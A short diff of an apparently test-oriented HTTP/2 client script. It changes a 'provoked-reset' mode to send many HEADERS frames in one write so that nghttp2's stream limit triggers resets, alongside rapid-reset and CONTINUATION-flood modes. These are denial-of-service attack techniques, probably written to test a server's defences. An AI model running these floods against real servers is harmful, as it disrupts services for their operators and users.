@@ -113,8 +113,9 @@ elif mode == "rapid-reset":
         send(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request(b"/news")) +
              frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 8)))
 elif mode == "provoked-reset":
-    for i in range(arg):
-        send(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request(b"no-slash")))
+    # In one write, so the server reads many at once: past its stream
+    # limit nghttp2 refuses them itself, and those resets count too.
+    send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request(b"no-slash")) for i in range(arg)))
 elif mode == "continuation-flood":
     send(frame(HEADERS, END_STREAM, 1, request(b"/news")) + frame(CONTINUATION, 0, 1) * arg)
 elif mode == "slow-stream":
